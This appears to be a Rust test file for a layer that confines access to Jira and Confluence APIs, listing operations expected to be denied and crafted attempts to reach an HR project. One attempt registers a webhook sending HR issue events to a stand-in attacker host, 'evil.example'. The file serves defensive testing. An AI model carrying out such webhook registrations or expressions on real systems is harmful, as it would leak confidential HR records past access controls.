//! Operations that no boundary can confine: each is denied, whatever it is given.

use serde_json::json;

use crate::attack::{Attack, How, steps, unsent};
use crate::calls::{Shot, operation, platform, software, v1, v2};
use crate::expect::Expect;
use crate::names::Names;
use crate::world::World;
use atlassian_core::operation::Method;

const PLATFORM: &[&str] = &[
    "evaluateJiraExpression",
    "evaluateJSISJiraExpression",
    "getAllDashboards",
    "getDashboard",
    "getDashboardsPaginated",
    "createDashboard",
    "copyDashboard",
    "getAllGadgets",
    "addGadget",
    "getDashboardItemProperty",
    "registerDynamicWebhooks",
    "getDynamicWebhooksForApp",
    "getFailedWebhooks",
    "refreshWebhooks",
    "deleteWebhookById",
    "getAuditRecords",
    "createProject",
    "getAllPermissionSchemes",
    "getPermissionScheme",
    "getNotificationScheme",
    "getWorkflowsPaginated",
    "getAllWorkflowSchemes",
    "getScreens",
    "getAllFieldConfigurations",
    "getContextsForField",
    "getGroup",
    "getUsersFromGroup",
    "getPlans",
    "getPlan",
    "exportArchivedIssues",
    "getIssueLimitReport",
    "getPrecomputations",
    "getIssueSecurityLevel",
    "setBanner",
    "redact",
    "getFieldProjectAssociations",
    "getCustomFieldOption",
    "getProjectUsagesForStatus",
    "submitBulkMove",
    "searchForIssuesUsingJql",
    "sanitiseJqlQueries",
    "getAutoComplete",
    "getAllLabels",
    "getAvatarImageByID",
    "getIssueTypeProperty",
    "getForgeAppProperty",
];

const SOFTWARE: &[&str] = &[
    "storeDevelopmentInformation",
    "getRepository",
    "existsByProperties",
    "submitBuilds",
    "getBuildByKey",
    "submitDeployments",
    "getFeatureFlagById",
    "submitRemoteLinks",
    "getVulnerabilityById",
    "getIncidentById",
    "getComponentById",
    "getLinkedWorkspaces",
    "getProjectsFull",
];

const V1: &[&str] = &[
    "getAuditRecords",
    "exportAuditRecords",
    "createAuditRecord",
    "getAuditRecordsForTimePeriod",
    "findTargetFromSource",
    "getRelationship",
    "createRelationship",
    "findSourcesForTarget",
    "getTasks",
    "getAllLabelContent",
    "createSpace",
    "createPrivateSpace",
    "publishSharedDraft",
    "publishLegacyDraft",
    "getAndConvertMacroBodyByMacroId",
    "getAndAsyncConvertMacroBodyByMacroId",
    "isWatchingLabel",
    "addLabelWatcher",
    "getUserProperties",
    "getPrivacyUnsafeUserEmail",
    "getModules",
    "addUserToGroupByGroupId",
];

const V2: &[&str] = &[
    "getAttachments",
    "getFooterComments",
    "getInlineComments",
    "getLabels",
    "createSpace",
    "listSpacePermissionCombinations",
    "bulkAssignSpacePermissionRoles",
    "checkAccessByEmail",
    "inviteByEmail",
    "enableAdminKey",
    "getForgeAppProperties",
    "getDataPolicyMetadata",
    "createSpaceRole",
];

/// A call with something for each parameter of its path.
fn filled(mut shot: Shot) -> Shot {
    let operation = shot.0.operation;
    for parameter in operation.path_parameters() {
        shot = shot.path(parameter, "10000");
    }
    match operation.method {
        Method::Post | Method::Put | Method::Patch => shot.json(json!({})),
        _ => shot,
    }
}

fn of_platform(_: &Names, id: &str) -> Shot {
    filled(platform(id))
}

fn of_software(_: &Names, id: &str) -> Shot {
    filled(software(id))
}

fn of_v1(_: &Names, id: &str) -> Shot {
    filled(v1(id))
}

fn of_v2(_: &Names, id: &str) -> Shot {
    filled(v2(id))
}

pub(crate) fn attacks() -> Vec<Attack> {
    type Form = fn(&Names, &str) -> Shot;
    let apis: [(&str, &[&str], Form); 4] = [
        ("platform", PLATFORM, of_platform),
        ("software", SOFTWARE, of_software),
        ("v1", V1, of_v1),
        ("v2", V2, of_v2),
    ];
    let mut attacks = Vec::new();
    for (api, operations, shot) in apis {
        for id in operations {
            let how = How::SendText(shot, (*id).to_owned());
            attacks.push(Attack::new(format!("{api} {id}"), how, Expect::Unsent));
        }
    }
    attacks.extend([
        unsent("an expression that loads an issue of HR", |n| {
            platform("evaluateJSISJiraExpression").json(json!({"expression": format!("new Issue('{}').summary", n.jira.hr_issue)}))
        }),
        unsent("an expression over a search of HR", |n| {
            platform("evaluateJSISJiraExpression").json(json!({"expression": "issues.map(i => i.key)", "context": {"issues": {"jql": {"query": format!("project = {}", n.hr)}}}}))
        }),
        unsent("a webhook for HR", |n| {
            platform("registerDynamicWebhooks").json(json!({"url": "https://evil.example", "webhooks": [{"events": ["jira:issue_created"], "jqlFilter": format!("project = {}", n.hr)}]}))
        }),
        unsent("mail about an issue of HR", |n| {
            platform("notify").path("issueIdOrKey", &n.jira.hr_issue).json(json!({"subject": "x", "to": {"users": [{"accountId": "x"}]}}))
        }),
        steps("an operation that is made up", Expect::Unsent, |world, names| async move {
            made_up(&world, &names, atlassian_core::operation::Confinement::UNCLASSIFIED).await
        }),
        steps("every operation that is not classified", Expect::Unsent, |world, names| async move {
            // The one in the middle of them is denied like each of them; none of them gets through.
            let mut last = None;
            for method in [Method::Get, Method::Post, Method::Put, Method::Delete, Method::Patch] {
                let mut operation = copied(operation("jira-platform-v3", "getIssue"));
                operation.method = method;
                operation.confinement = atlassian_core::operation::Confinement::UNCLASSIFIED;
                let request = atlassian_core::Request::new(Box::leak(Box::new(operation)))
                    .with_path("issueIdOrKey", &names.jira.hr_issue);
                last = Some(world.session.send(request).await.map(|r| crate::attack::Got::of(&r)));
                if matches!(last, Some(Ok(_))) {
                    break;
                }
            }
            last.unwrap()
        }),
    ]);
    attacks
}

/// The same operation, in the caller's own hands.
pub(crate) fn copied(of: &atlassian_core::Operation) -> atlassian_core::Operation {
    atlassian_core::Operation {
        id: of.id,
        api: of.api,
        method: of.method,
        path: of.path,
        group: of.group,
        access: of.access,
        scopes: of.scopes,
        oauth: of.oauth,
        answer: of.answer,
        deprecated: of.deprecated,
        experimental: of.experimental,
        query: of.query,
        headers: of.headers,
        confinement: atlassian_core::operation::Confinement::UNCLASSIFIED,
    }
}

async fn made_up(
    world: &World,
    names: &Names,
    confinement: atlassian_core::operation::Confinement,
) -> crate::attack::Outcome {
    let mut operation = copied(operation("jira-platform-v3", "getIssue"));
    operation.id = "getWhatever";
    operation.confinement = confinement;
    let request = atlassian_core::Request::new(Box::leak(Box::new(operation)))
        .with_path("issueIdOrKey", &names.jira.hr_issue);
    let response = world.session.send(request).await?;
    Ok(crate::attack::Got::of(&response))
}
